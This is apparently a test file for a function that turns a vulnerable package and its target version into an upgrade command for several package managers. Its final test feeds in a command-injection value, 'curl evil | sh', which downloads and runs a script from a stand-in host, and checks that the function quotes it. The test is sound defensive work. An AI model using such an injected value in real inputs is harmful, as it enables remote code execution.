import { expect, test } from 'vitest';
import { fixCommand } from '../../../../../src/web/pages/alerts/detail/fix-command.js';

test.each([
  ['npm', '@scope/name', '2.0.0', true, 'npm install @scope/name@2.0.0'],
  ['npm', 'qs', '6.14.1', false, 'npm update qs'],
  ['PyPI', 'jinja2', '3.1.6', true, 'pip install jinja2==3.1.6'],
  ['Go', 'golang.org/x/net', '0.38.0', false, 'go get golang.org/x/net@v0.38.0'],
  ['Go', 'golang.org/x/net', 'v0.38.0', true, 'go get golang.org/x/net@v0.38.0'],
  ['crates.io', 'time', '0.2.23', true, 'cargo update --package time --precise 0.2.23'],
  ['RubyGems', 'rack', '3.1.16', false, 'bundle update --conservative rack'],
  ['NuGet', 'Newtonsoft.Json', '13.0.1', true, 'dotnet add package Newtonsoft.Json --version 13.0.1'],
  ['Packagist', 'twig/twig', '3.14.0', true, "composer require 'twig/twig:^3.14.0'"],
  ['Packagist', 'twig/twig', '3.14.0', false, 'composer update twig/twig --with twig/twig:3.14.0'],
] as const)('%s %s %s, direct %s', (ecosystem, name, to, isDirect, command) => {
  expect(fixCommand({ ecosystem, name, to, isDirect })).toBe(command);
});

test('Maven names the artifact and the version', () => {
  const command = fixCommand({ ecosystem: 'Maven', name: 'org.a:b', to: '2.0', isDirect: true });
  expect(command).toBe('mvn versions:use-dep-version -Dincludes=org.a:b -DdepVersion=2.0 -DforceVersion=true');
});

test('what a shell could read as more than a word is quoted', () => {
  const command = fixCommand({ ecosystem: 'npm', name: 'a', to: "1; curl evil | sh '", isDirect: true });
  expect(command).toBe(`npm install 'a@1; curl evil | sh '\\'''`);
});
